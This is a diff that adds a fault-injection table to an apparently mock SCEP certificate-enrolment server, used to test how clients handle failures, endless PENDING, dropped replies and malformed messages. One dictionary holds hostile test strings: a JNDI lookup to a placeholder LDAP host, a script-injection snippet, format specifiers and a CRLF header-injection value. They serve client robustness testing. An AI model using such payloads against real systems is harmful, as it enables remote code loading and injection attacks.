@@ -1,0 +1,125 @@
+"""Faults of what is decided: failures, PENDING without end, sequences over a transaction. RFC 8894, 2.4, 2.5, 3.3."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from mfp_sim.scep import der
+from mock_scep_server.faults.arguments import Choice, Number
+from mock_scep_server.faults.base import Fault
+from mock_scep_server.faults.combined import InTurn, Together, at
+from mock_scep_server.faults.decide import (
+    FAILURE,
+    PENDING,
+    SUCCESS,
+    Answered,
+    TargetLimit,
+    UnlessContentType,
+    UnlessHeader,
+    UnlessPath,
+    failed,
+    pending,
+)
+from mock_scep_server.faults.delivery import CutOff
+from mock_scep_server.faults.message import Said, odd
+from mock_scep_server.faults.registry import Spec
+from mock_scep_server.script import Answer
+
+MESSAGES = "PKCSReq RenewalReq CertPoll"
+ENROL = "PKCSReq RenewalReq"
+COUNT = Number("count", 2, 1, 1000, "how many")
+DENIED = failed(2, "denied by the operator")
+LOST = CutOff("close")
+
+UNDEFINED_FAIL_INFO = ("5", "11", "99", "empty", "x")
+HOSTILE = {
+    "format-string": der.utf8_string("%s%n%x {0} {{7*7}} ${jndi:ldap://x.invalid/a} <script>alert(1)</script>"),
+    "control-characters": der.utf8_string("line\r\nSet-Cookie: a=b\x00\x1b[31mred\x07"),
+    "invalid-utf-8": der.tlv(der.UTF8_STRING, b"\xff\xfe bad \xc0\xaf"),
+    "long": der.utf8_string("A" * 65536),
+}
+
+
+def _undefined(value: str) -> Fault:
+    text = "" if value == "empty" else value
+    return at(MESSAGES, FAILURE, odd(instead=(("failInfo", (der.printable_string(text),)),)))
+
+
+def _sequence(*faults: Fault | None) -> Fault:
+    return at(MESSAGES, InTurn(faults))
+
+
+def _fields(**values: Any) -> Said:
+    return Said(lambda reply, context: values)
+
+
+def _envelope_too() -> Said:
+    """The certificates and the recipient that a SUCCESS would have."""
+
+    def change(reply: Any, context: Any) -> dict[str, Any]:
+        from mock_scep_server.faults import strangers
+
+        other = strangers.device(context).certificate
+        return {"certificates": (other.der, context.ca.ca.certificate.der), "recipient": context.asked.signer}
+
+    return Said(change)
+
+
+CONFLICTS = {
+    "failure": at(MESSAGES, FAILURE, _envelope_too()),
+    "pending": at(MESSAGES, PENDING, _envelope_too()),
+}
+REJECTIONS = {
+    "with-text": at(ENROL, failed(2, "not allowed by the policy of this CA")),
+    "without-text": at(ENROL, failed(2, "not allowed by the policy of this CA"), _fields(fail_info_text=None)),
+}
+
+TABLE: dict[str, Spec] = {
+    "drop-first-reply": Spec("delivery", lambda: at(ENROL, InTurn((LOST,)))),
+    "drop-success": Spec("delivery", lambda: at(MESSAGES, InTurn((LOST,)), statuses="SUCCESS")),
+    "duplicate-dn": Spec(
+        "decide", lambda: at(MESSAGES, InTurn((Together((SUCCESS, LOST)), failed(2, "certificate already exists"))))
+    ),
+    "duplicate-success": Spec(
+        "decide", lambda: _sequence(Together((SUCCESS, LOST)), Answered(Answer("success", again=True)))
+    ),
+    "fail-badalg": Spec("decide", lambda: at(MESSAGES, failed(0, "badAlg by the fault"))),
+    "fail-badcertid": Spec("decide", lambda: at(MESSAGES, failed(4, "badCertId by the fault"))),
+    "fail-badmessagecheck": Spec("decide", lambda: at(MESSAGES, failed(1, "badMessageCheck by the fault"))),
+    "fail-badrequest": Spec("decide", lambda: at(MESSAGES, failed(2, "badRequest by the fault"))),
+    "fail-badtime": Spec("decide", lambda: at(MESSAGES, failed(3, "badTime by the fault"))),
+    "failinfo-undefined": Spec("message", _undefined, (Choice("value", UNDEFINED_FAIL_INFO),)),
+    "failinfotext-hostile": Spec(
+        "message",
+        lambda text: at(MESSAGES, FAILURE, odd(instead=(("failInfoText", (HOSTILE[text],)),))),
+        (Choice("text", tuple(HOSTILE)),),
+    ),
+    "failinfotext-on-success": Spec(
+        "message", lambda: at(MESSAGES, _fields(fail_info=2, fail_info_text="and yet it failed"), statuses="SUCCESS")
+    ),
+    "failure-after-pending": Spec("decide", lambda: _sequence(PENDING, PENDING, failed(2, "refused after PENDING"))),
+    "failure-no-failinfo": Spec("message", lambda: at(MESSAGES, FAILURE, _fields(fail_info=None))),
+    "failure-with-envelope": Spec("message", lambda: at(MESSAGES, FAILURE, _envelope_too())),
+    "get-414": Spec("decide", lambda octets: TargetLimit(octets), (Number("octets", 2048, 1, 65536),)),
+    "outage-during-poll": Spec("delivery", lambda count: at("CertPoll", InTurn((CutOff("reset"),) * count)), (COUNT,)),
+    "path-strict": Spec(
+        "decide",
+        lambda path: UnlessPath(path),
+        (Choice("path", ("/cgi-bin/pkiclient.exe", "/certsrv/mscep/mscep.dll")),),
+    ),
+    "pending-forever": Spec("decide", lambda: at(MESSAGES, PENDING)),
+    "pending-n": Spec("decide", lambda count: at(MESSAGES, pending(count)), (COUNT,)),
+    "pending-renewal": Spec("decide", lambda: at("RenewalReq", PENDING)),
+    "pending-then-failure": Spec("decide", lambda count: at(MESSAGES, pending(count, DENIED)), (COUNT,)),
+    "pending-then-success": Spec("decide", lambda count: at(MESSAGES, pending(count, SUCCESS)), (COUNT,)),
+    "pending-with-envelope": Spec("message", lambda: at(MESSAGES, PENDING, _envelope_too())),
+    "policy-reject": Spec("decide", lambda how: REJECTIONS[how], (Choice("how", tuple(REJECTIONS)),)),
+    "poll-unknown": Spec("decide", lambda: at("CertPoll", failed(4, "no such transaction"))),
+    "post-ct-strict": Spec("decide", lambda: UnlessContentType("application/x-pki-message")),
+    "status-body-conflict": Spec("message", lambda status: CONFLICTS[status], (Choice("status", tuple(CONFLICTS)),)),
+    "wrong-challenge-reply": Spec("decide", lambda: at(ENROL, failed(2, "challenge password invalid"))),
+    "demands-content-length": Spec(
+        "decide", lambda: at("PKIOperation", UnlessHeader("Content-Length", 411), method="POST")
+    ),
+    "demands-host": Spec("decide", lambda: UnlessHeader("Host", 400)),
+}
